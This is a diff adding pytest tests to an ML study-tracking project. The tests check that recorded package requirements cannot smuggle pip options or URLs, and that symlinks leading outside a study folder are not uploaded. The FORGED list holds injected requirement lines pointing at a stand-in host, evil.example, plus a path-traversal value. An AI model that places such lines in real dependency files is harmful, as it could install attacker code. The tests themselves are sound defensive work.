@@ -1,0 +1,70 @@
+"""Records come from others too: what they name is never taken further than it may lead."""
+
+from pathlib import Path
+
+import pytest
+
+from study.events import Concluded, Finished, SessionStarted
+from study.folder import StudyFolder
+from study.pictures import picture_file
+from study.provenance import recorded_versions
+from study.tracking import mlflow_files as files
+from study.tracking.mlflow_model import requirements
+
+FORGED = [
+    "torch==2.4.6\n--extra-index-url http://evil.example/",
+    "numpy==1.0 --hash=sha256:00",
+    "pillow @ http://evil.example/pillow.whl",
+    "-r http://evil.example/requirements.txt",
+    "h5py==3.12; python_version > '3'",
+    "safetensors==../evil",
+    "mlflow==3.17\r",
+]
+
+
+def test_only_names_and_versions_of_a_record_reach_what_pip_installs_from() -> None:
+    assert recorded_versions([*FORGED, "Scikit_Image==0.26.0", "torch==2.13.0+cpu", 7]) == {  # type: ignore[list-item]
+        "scikit-image": "0.26.0",
+        "torch": "2.13.0+cpu",
+    }
+
+
+def test_the_registered_model_pins_the_version_installed_here_in_place_of_a_forged_one() -> None:
+    assert requirements(FORGED) == requirements(())
+    assert "torch==2.4.6" in requirements(["torch==2.4.6"])
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> StudyFolder:
+    """A study's folder in which links lead to a file outside of it."""
+    (tmp_path / "secret").write_text("secret")
+    made = StudyFolder(tmp_path / "root", "forged")
+    for path in (
+        made.trial(3) / "weights.safetensors",
+        made.changes(1),
+        made.results / "ranking.csv",
+        made.report,
+        picture_file(made.trial(3), 0),
+    ):
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.symlink_to(tmp_path / "secret")
+    return made
+
+
+def test_no_link_out_of_a_study_is_followed_for_what_is_uploaded(folder: StudyFolder) -> None:
+    session = SessionStarted(time=0, epoch=1, host="h", pid=1, trials=1, provenance={})
+    end = Finished(time=0, trial=3, patches=1, scores={}, per_image=(), weights="0", seconds={})
+    concluded = Concluded(time=0, best=3, counted=1, scores={}, per_image=(), files=("results/ranking.csv",))
+    uploaded = {
+        **files.of_session(folder, session),
+        **files.of_trial(folder, end),
+        **files.of_conclusion(folder, concluded),
+    }
+    assert not [name for name, content in uploaded.items() if isinstance(content, Path)]
+
+
+def test_a_link_within_the_study_still_counts(folder: StudyFolder) -> None:
+    own = folder.path / "own.csv"
+    own.write_text("1")
+    (folder.results / "table.csv").symlink_to(own)
+    assert list(folder.written(["results/table.csv", "results/ranking.csv"])) == ["results/table.csv"]
